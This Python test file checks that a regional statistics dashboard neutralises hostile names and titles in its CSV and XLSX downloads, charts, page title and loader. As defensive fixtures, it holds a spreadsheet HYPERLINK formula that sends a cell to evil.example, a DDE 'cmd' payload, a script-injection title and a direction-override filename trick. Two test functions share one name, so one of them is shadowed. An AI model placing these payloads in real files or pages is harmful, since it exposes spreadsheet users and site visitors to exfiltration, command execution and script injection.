"""Hostile bundle texts: markup in names and titles, spreadsheet formulas, huge or invisible
characters (issue 12, part 2). Names reach the page, the charts, the CLI and the downloads."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest

from dashboard.bundle import BundleError, load_bundle
from dashboard.cells import csv_cell, formula_like
from dashboard.cli import main as cli_main
from dashboard.formatting import plotly_text
from dashboard.model import PrivacyRules
from dashboard.publish import publish
from dashboard.tables import export_table, ranking_table
from tests.conftest import make_tiny_bundle
from tests.csv_de import split_csv_de
from tests.unit.bundle_factory import make_spec, set_cell, write_bundle

LINK = '<a href="https://evil.example/">klick</a>'
HYPERLINK = '=HYPERLINK("https://evil.example/?"&B2,"Details")'


def hostile_bundle(symbol: str = "=1+1"):
    """The tiny bundle with a formula, a link and an at-formula as names, and a formula symbol."""
    bundle = make_tiny_bundle(PrivacyRules(symbol=symbol))
    areas = bundle.areas.copy()
    areas.loc[0, "area_name"] = HYPERLINK
    areas.loc[1, "area_name"] = LINK
    areas.loc[3:5, "municipality_name"] = "@SUM(1+1)"
    indicators = bundle.indicators.copy()
    indicators.loc[1, "numerator_label"] = "+cmd|' /C calc'!A0"
    config = replace(bundle.config, title="</title><script>alert(1)</script>", attribution="-2+3 <b>fett</b>")
    return replace(bundle, areas=areas, indicators=indicators, config=config)


@pytest.fixture(scope="module")
def published():
    return publish(hostile_bundle())


# --------------------------------------------------------------------------- formulas

@pytest.mark.parametrize("text, expected", [
    ("=1+1", True), ("+1+2", True), ("-2+3", True), ("@SUM(A1)", True), ("\tx", True), ("\r=1", True),
    ("-1,5", False), ("+2.000", False), ("-0.25", False), ("-", False), ("+", False), ("Aachen", False),
    ("1=1", False), ("", False), (None, False), (-1.5, False),
])
def test_txt001_formula_like(text, expected):
    assert formula_like(text) is expected
    assert csv_cell(text) == ("'" + text if expected else text)


def _all_cells(data: bytes, sep: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=sep) for cell in row]


@pytest.mark.parametrize("fmt, sep", [("csv", ","), ("csv-de", ";")])
def test_txt002_csv_exports_contain_no_live_formula(published, fmt, sep):
    table = ranking_table(published, "SGB2", 2022)
    cells = _all_cells(export_table(table, published, "SGB2", fmt, year=2022), sep)
    live = [c for c in cells if formula_like(c)]
    assert not live, live
    assert "'" + HYPERLINK in cells and "'@SUM(1+1)" in cells and "'=1+1" in cells  # shown, not evaluated
    assert LINK in cells  # plain text in a CSV


def test_txt003_csv_de_negative_numbers_stay_numbers(published):
    from dashboard.ranking import download
    from dashboard.state import ViewState
    data, _ = download(published, ViewState("WFL", 2022), "csv-de")
    _, rows = split_csv_de(data)
    diff = rows[0].index(next(h for h in rows[0] if h.startswith("Differenz")))
    negatives = [r[diff] for r in rows[1:] if r[diff].startswith("-")]
    assert negatives and all(not n.startswith("'") and n[1:].replace(",", "").isdigit() for n in negatives)


def test_txt004_xlsx_has_no_formula_and_numbers_stay_numbers(published):
    from dashboard.ranking import download
    from dashboard.state import ViewState
    data, _ = download(published, ViewState("WFL", 2022), "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        xml = "".join(book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml  # no formula element anywhere
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Tabelle"]
    texts = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    assert texts[HYPERLINK].data_type == "s" and texts[HYPERLINK].quotePrefix
    assert texts["@SUM(1+1)"].data_type == "s"
    header = [c.value for c in sheet[1]]
    diff = header.index(next(h for h in header if h.startswith("Differenz"))) + 1
    numbers = [sheet.cell(r, diff).value for r in range(2, sheet.max_row + 1)]
    assert any(isinstance(v, float) and v < 0 for v in numbers)  # negative numbers are numbers


def test_txt005_xlsx_symbol_and_metadata_are_text(published):
    published = replace(published, config=replace(published.config, synthetic=False, attribution="=2+3"))
    table = ranking_table(published, "SGB2", 2022)
    book = openpyxl.load_workbook(io.BytesIO(export_table(table, published, "SGB2", "xlsx", year=2022)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    symbols = [c for c in cells if c.value == "=1+1"]
    assert symbols and all(c.data_type == "s" for c in symbols)
    assert [c.data_type for c in cells if c.value == "=2+3"] == ["s"]  # the "Metadaten" sheet too


def test_txt006_cli_table_neutralises_formulas(tmp_path: Path):
    spec = make_spec()
    spec.areas.loc[0, "area_name"] = HYPERLINK
    folder = write_bundle(tmp_path / "b", spec)
    out, err = io.StringIO(), io.StringIO()
    assert cli_main(["table", str(folder), "--indicator", "EW", "--year", "2022"], out, err) == 0
    cells = _all_cells(out.getvalue().encode(), ",")
    assert "'" + HYPERLINK in cells and not [c for c in cells if formula_like(c)]


@pytest.mark.parametrize("fmt", ["csv", "csv-de", "xlsx"])
def test_txt013_index_table_neutralises_formulas(fmt):
    from dashboard.bundle import load_bundle as load
    from dashboard.indices.table import export_index_table, index_table
    from tests.conftest import DEMO_DIR

    demo = publish(load(DEMO_DIR))
    areas = demo.areas.copy()
    areas.loc[areas.index[0], "area_name"] = HYPERLINK
    hostile = replace(demo, areas=areas, config=replace(demo.config, attribution="=2+3"))
    data = export_index_table(index_table(hostile, 2024), hostile, 2024, fmt)  # type: ignore[arg-type]
    if fmt == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(data))
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert [c.data_type for c in cells if c.value in (HYPERLINK, "=2+3")] == ["s", "s"]
        return
    cells = _all_cells(data, "," if fmt == "csv" else ";")
    assert "'" + HYPERLINK in cells and not [c for c in cells if formula_like(c)]
    if fmt == "csv-de":
        assert "'=2+3" in cells


# --------------------------------------------------------------------------- markup

def test_txt007_plotly_text_escapes_markup():
    assert plotly_text(LINK) == '&lt;a href="https://evil.example/"&gt;klick&lt;/a&gt;'
    assert plotly_text("A & B") == "A &amp; B"


def test_txt008_figures_carry_no_bundle_markup(published):
    from dashboard.charts.canvas import SLIDE
    from dashboard.charts.map_chart import map_figure
    from dashboard.charts.ranking_chart import ranking_figure
    from dashboard.charts.series_chart import series_for
    from dashboard.mapview import map_view
    from dashboard.prepared import prepare
    from dashboard.state import ViewState
    data = prepare(published)
    state = ViewState("SGB2", 2022, areas=("A2",))
    view = map_view(data.published, data.geometry.area_ids, state, data.area_km2, dict(data.matrices))
    figures = [map_figure(data.geometry, view, (), SLIDE), series_for(published, state, SLIDE)[0],
               ranking_figure(published, state, SLIDE)]
    text = json.dumps(figures, default=str)
    assert "<a href" not in text and "<script" not in text and "<b>fett" not in text
    assert "&lt;a href=" in text and "&lt;b&gt;fett" in text  # shown literally, not dropped
    assert "<b>" in text  # the app's own markup still works


def test_txt009_page_title_is_escaped():
    from app import create_app
    app = create_app(published=publish(hostile_bundle()))
    page = app.server.test_client().get("/").get_data(as_text=True)
    assert "<script>alert(1)" not in page and "</title><script>" not in page
    assert "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt; – Sozialraum-Monitor</title>" in page


# --------------------------------------------------------------------------- the loader

def _problems(folder: Path):
    with pytest.raises(BundleError) as info:
        load_bundle(folder)
    return info.value.problems


def test_txt010_formula_names_load_with_a_warning_that_check_shows(tmp_path: Path):
    spec = make_spec()
    spec.areas.loc[2, "area_name"] = HYPERLINK
    folder = write_bundle(tmp_path / "b", spec, config={**spec.config, "privacy": {"symbol": "=1+1"}})
    set_cell(folder / "indicators.csv", 3, "numerator_label", "@SUM(1)")
    bundle = load_bundle(folder)
    shown = [str(w) for w in bundle.warnings]
    assert any("areas.geojson" in w and "Objekt 3" in w and "„area_name“" in w and "Formel" in w for w in shown)
    assert any("indicators.csv" in w and "Zeile 3" in w and "„numerator_label“" in w for w in shown), shown
    assert any("bundle.toml" in w and "privacy.symbol" in w for w in shown)
    out = io.StringIO()
    assert cli_main(["check", str(folder)], out, io.StringIO()) == 0
    assert out.getvalue().count("Formel ausführen") == 3


@pytest.mark.parametrize("name, words", [
    ("Aachen" * 2000, ["12.000 Zeichen", "höchstens 200"]),
    ("Burt\u202escheid", ["U+202E", "Schreibrichtung"]),
    ("Burt\u2066scheid", ["U+2066", "Schreibrichtung"]),
    ("Burt\x07scheid", ["U+0007", "Steuerzeichen"]),
    ("Burt\nscheid", ["U+000A", "Steuerzeichen"]),
])
def test_txt011_unusable_names_are_errors_naming_file_feature_and_column(tmp_path: Path, name, words):
    spec = make_spec()
    spec.areas.loc[1, "area_name"] = name
    problems = _problems(write_bundle(tmp_path / "b", spec))
    hits = [p for p in problems if p.severity == "error" and p.column == "area_name"]
    assert hits and hits[0].file == "areas.geojson" and "Objekt 2" in str(hits[0])
    assert all(w in str(hits[0]) for w in words), str(hits[0])
    assert "\u202e" not in str(hits[0]) and "\u2066" not in str(hits[0])  # the message itself is safe


def test_txt012_long_description_is_fine_a_long_indicator_name_is_not(tmp_path: Path):
    folder = write_bundle(tmp_path / "b")
    set_cell(folder / "indicators.csv", 2, "description", "Definition. " * 100 + "\nZweite Zeile")
    assert load_bundle(folder).indicators["description"].str.len().max() > 1000
    set_cell(folder / "indicators.csv", 2, "name", "x" * 201)
    problem = next(p for p in _problems(folder) if p.column == "name")
    assert problem.file == "indicators.csv" and problem.row == 2 and "201 Zeichen" in problem.message


def test_txt013_bundle_toml_title_with_direction_override_is_an_error(tmp_path: Path):
    spec = make_spec()
    folder = write_bundle(tmp_path / "b", spec, config={**spec.config, "title": "Monitor \u202etxt.exe"})
    problem = next(p for p in _problems(folder) if p.column == "title")
    assert problem.file == "bundle.toml" and "U+202E" in problem.message
